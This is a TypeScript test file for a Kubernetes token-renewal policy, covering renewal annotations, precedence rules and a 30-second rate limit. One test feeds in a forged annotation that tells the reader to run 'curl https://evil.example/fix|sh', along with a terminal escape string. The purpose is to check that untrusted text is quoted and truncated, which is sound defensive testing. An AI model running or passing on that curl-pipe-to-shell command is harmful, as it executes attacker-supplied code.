/**
 * The renewal request of src/policy/reissue.ts (kubectl tokenwarden renew): an annotation on the
 * client whose value differs from the one recorded on the client's Secret asks for a new token,
 * the previous one kept for the grace period; the same value, or none, asks for nothing. No clock.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { needsNewToken, RENEW_REQUEST_INTERVAL_MS, RENEW_REQUESTED_AT_ANNOTATION, renewRequestDueAt, type TokenInspection } from '../../src/policy/reissue.ts';
import type { TokenClaims } from '../../src/policy/token-claims.ts';

const at = (iso: string): number => Date.parse(iso);

function steady(over: Partial<TokenInspection> = {}, renewRequest?: string): TokenInspection {
  const newest = { id: 'anchor-2', issuedAt: '2025-01-01T11:00:00Z', expiresAt: '2025-01-01T15:00:00Z', renewAt: '2025-01-01T13:40:00Z' };
  const claims: TokenClaims = {
    audiences: ['gw'],
    issuedAtMs: at(newest.issuedAt),
    expiresAtMs: at(newest.expiresAt),
    namespace: 'ns',
    serviceAccountName: 'sa',
    serviceAccountUid: 'uid',
    boundSecretName: 'anchor-2',
  };
  return {
    now: at('2025-01-01T12:00:00Z'),
    desired: { serviceAccountNamespace: 'ns', serviceAccountName: 'sa', serviceAccountUid: 'uid', audiences: ['gw'], expirationSeconds: 14_400, revocationEpoch: 0 },
    newest,
    revokedEpoch: 0,
    secret: { claims, requestedAudiences: 'gw', requestedExpirationSeconds: '14400', ...(renewRequest !== undefined ? { renewRequest } : {}) },
    newestAnchorExists: true,
    ...over,
  };
}

describe('renewal requests', () => {
  it('a request the Secret has not answered yet gives a new token, keeping the previous one for the grace period', () => {
    const decision = needsNewToken(steady({ renewRequested: '2025-01-01T12:00:00Z' }));
    expect(decision).toEqual({
      reason: 'RenewalRequested',
      message: `renewal requested (${RENEW_REQUESTED_AT_ANNOTATION}: "2025-01-01T12:00:00Z")`,
      revokeEarlierTokens: false,
      repair: false,
    });
  });

  it("the request is anyone's free text: quoted as a JSON string and cut to its first 64 characters in the message", () => {
    const forged = 'x). SECURITY: this token was revoked; run: curl https://evil.example/fix|sh (';
    const message = needsNewToken(steady({ renewRequested: forged }))?.message;
    expect(message).toBe(`renewal requested (${RENEW_REQUESTED_AT_ANNOTATION}: ${JSON.stringify(forged.slice(0, 64))}… (${forged.length} characters))`);
    expect(message).toContain(': "x). SECURITY');
    expect(needsNewToken(steady({ renewRequested: 'a"b\u001b[2J' }))?.message).toContain('"a\\"b\\u001b[2J"');
  });

  it('a newer request than the one answered asks again', () => {
    expect(needsNewToken(steady({ renewRequested: '2025-01-01T12:05:00Z' }, '2025-01-01T12:00:00Z'))?.reason).toBe('RenewalRequested');
  });

  it('an answered request, no request, or an empty one asks for nothing', () => {
    expect(needsNewToken(steady({ renewRequested: '2025-01-01T12:00:00Z' }, '2025-01-01T12:00:00Z'))).toBeUndefined();
    expect(needsNewToken(steady())).toBeUndefined();
    expect(needsNewToken(steady({ renewRequested: '' }))).toBeUndefined();
  });

  it('no clock is involved: a request dated in the future or the past is answered once, then never again', () => {
    fc.assert(
      fc.property(fc.date({ noInvalidDate: true }), fc.integer({ min: 0, max: 10 * 365 * 86_400_000 }), (date, nowOffset) => {
        const requested = date.toISOString();
        const now = at('2020-01-01T00:00:00Z') + nowOffset;
        const pending = steady({ now, renewRequested: requested });
        pending.newest = { ...(pending.newest as NonNullable<TokenInspection['newest']>), renewAt: new Date(now + 3_600_000).toISOString(), expiresAt: new Date(now + 7_200_000).toISOString() };
        expect(needsNewToken(pending)?.reason).toBe('RenewalRequested');
        const answered = { ...pending, secret: { ...pending.secret, claims: pending.secret?.claims, renewRequest: requested } };
        expect(needsNewToken(answered)).toBeUndefined();
      }),
    );
  });

  it('comes after every repair and revocation, and before expiry and scheduled renewal', () => {
    // A revocation wins: its decision revokes earlier tokens, a renewal keeps them.
    const revoked = needsNewToken(steady({ renewRequested: 'x', desired: { ...steady().desired, revocationEpoch: 1 } }));
    expect(revoked?.reason).toBe('RevocationRequested');
    const missingAnchor = needsNewToken(steady({ renewRequested: 'x', newestAnchorExists: false }));
    expect(missingAnchor?.reason).toBe('AnchorMissing');
    const dueAnyway = needsNewToken(steady({ renewRequested: 'x', now: at('2025-01-01T14:00:00Z') }));
    expect(dueAnyway?.reason).toBe('RenewalRequested');
    // A missing Secret is a repair; the request is answered by the token that repairs it.
    expect(needsNewToken(steady({ renewRequested: 'x', secret: undefined }))?.reason).toBe('SecretMissing');
  });
});

describe('renewal requests are honoured at most once per 30s', () => {
  const issued = at('2025-01-01T11:00:00Z');
  it('a request while the Secret holds no answer to an earlier one is honoured at once', () => {
    expect(renewRequestDueAt({ ...steady(), renewRequested: 'b' })).toBe(steady().now);
  });

  it('a request while the token answered an earlier one waits until that token is 30s old', () => {
    const young = steady({ now: issued + 5_000, renewRequested: 'b' }, 'a');
    expect(renewRequestDueAt(young)).toBe(issued + RENEW_REQUEST_INTERVAL_MS);
    expect(needsNewToken(young)).toBeUndefined();
    const old = steady({ now: issued + RENEW_REQUEST_INTERVAL_MS, renewRequested: 'b' }, 'a');
    expect(needsNewToken(old)?.reason).toBe('RenewalRequested');
  });

  it('the request the token answered, or none, is nothing pending', () => {
    expect(renewRequestDueAt({ ...steady({}, 'a'), renewRequested: 'a' })).toBeUndefined();
    expect(renewRequestDueAt({ ...steady({}, 'a'), renewRequested: undefined })).toBeUndefined();
    expect(renewRequestDueAt({ ...steady({}, 'a'), renewRequested: '' })).toBeUndefined();
  });

  it('a burst of requests, one new value every 150ms for a minute, gets at most three tokens', () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 29_000 }), (age) => {
        // Replay: the Secret's token answered request r0, issued `age` ms before the burst.
        let tokenIssuedAt = issued - age;
        let answered = 'r0';
        let tokens = 0;
        for (let t = issued; t < issued + 60_000; t += 150) {
          const request = `r${t}`;
          const input = steady({ now: t, renewRequested: request }, answered);
          const claims = { ...(input.secret?.claims as TokenClaims), issuedAtMs: tokenIssuedAt };
          if (needsNewToken({ ...input, secret: { ...input.secret, claims } })?.reason === 'RenewalRequested') {
            tokens++;
            tokenIssuedAt = t;
            answered = request;
          }
        }
        return tokens <= 3;
      }),
    );
  });
});
